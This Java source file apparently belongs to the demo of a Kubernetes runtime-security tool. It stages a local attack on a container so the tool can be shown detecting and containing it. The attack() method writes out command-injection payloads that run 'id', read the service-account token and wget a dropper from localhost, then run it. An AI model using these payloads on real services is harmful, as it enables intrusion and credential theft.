package io.kubeguardian.cli.demo;

import io.kubeguardian.cli.Home;
import io.kubeguardian.cli.Interrupted;
import io.kubeguardian.cli.UserError;
import io.kubeguardian.cli.demo.Container.Response;
import io.kubeguardian.cli.stack.Stack;
import io.kubeguardian.cli.stack.TemporaryFolder;
import io.kubeguardian.schema.PodMetadata;
import java.nio.file.Path;
import java.time.Duration;

/** The story on this machine: a real container, attacked through the mistake in its service. */
final class LiveScene implements Scene {
    /** The output of {@code cli/demo/build.sh}. */
    static final String PROGRAMS = "cli/target/demo";

    private static final Duration BETWEEN_REQUESTS = Duration.ofMillis(250);
    private static final String TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    private static final String DROPPED = "/tmp/.cache-k8s";

    private final Home home;
    private final TemporaryFolder folder;
    private final Path cgroup;
    private final Duration normal;
    private final DemoWorkload workload;
    private final PodMetadata metadata;
    private Container container;

    /**
     * @param cgroup the monitored cgroup
     * @param normal how long the service behaves normally
     */
    LiveScene(Home home, TemporaryFolder folder, Path cgroup, String cluster, String node, Duration normal) {
        this.home = home;
        this.folder = folder;
        this.cgroup = cgroup;
        this.normal = normal;
        this.workload = DemoWorkload.create(cluster);
        this.metadata = workload.metadata(node);
    }

    @Override
    public DemoWorkload workload() {
        return workload;
    }

    @Override
    public PodMetadata metadata() {
        return metadata;
    }

    @Override
    public void begin(Stack stack) {
        EventPublisher.publish(stack.kafkaClient(), metadata);
        container = Container.start(home.resolve("cli/demo/container.sh"), home.resolve(PROGRAMS), cgroup,
                workload, folder.path());
        // The service needs a moment until it listens.
        for (int attempt = 0; container.get("/orders").status() != 0; attempt++) {
            if (attempt == 100) {
                throw new UserError("the demo's service does not answer");
            }
            Interrupted.sleep(Duration.ofMillis(50));
        }
    }

    @Override
    public void behaveNormally() {
        long end = System.nanoTime() + normal.toNanos();
        while (System.nanoTime() < end) {
            container.get("/orders");
            Interrupted.sleep(BETWEEN_REQUESTS);
        }
    }

    @Override
    public void attack(Screen screen) {
        screen.step("attacker: GET /report?name=x;id                  a shell, through the service's mistake");
        inject("id");
        Interrupted.sleep(Duration.ofSeconds(1));
        screen.step("attacker: …;cat " + TOKEN);
        Response stolen = inject("cat+" + TOKEN);
        if (!stolen.body().contains("demo.token")) {
            throw new UserError("the attack failed, the token was not read: " + stolen.body());
        }
        Interrupted.sleep(Duration.ofSeconds(1));
        screen.step("attacker: …;wget -O " + DROPPED + " http://…:" + Container.DROP_PORT + "/k; " + DROPPED
                + "   dropped, run, calls home");
        inject("wget+-q+-O+" + DROPPED + "+http://127.0.0.1:" + Container.DROP_PORT + "/k%26%26chmod+755+" + DROPPED
                + "%26%26" + DROPPED + '+' + Container.HOME_PORT + "+>/tmp/.log+2>%261+%26");
    }

    /** The attacker tries once more: what a contained container answers. */
    Response attackAgain() {
        return inject("id");
    }

    /** An ordinary request, for which the service needs its database. */
    Response order() {
        return container.get("/orders");
    }

    private Response inject(String command) {
        return container.get("/report?name=x;" + command);
    }

    @Override
    public void close() {
        if (container != null) {
            container.close();
        }
    }
}
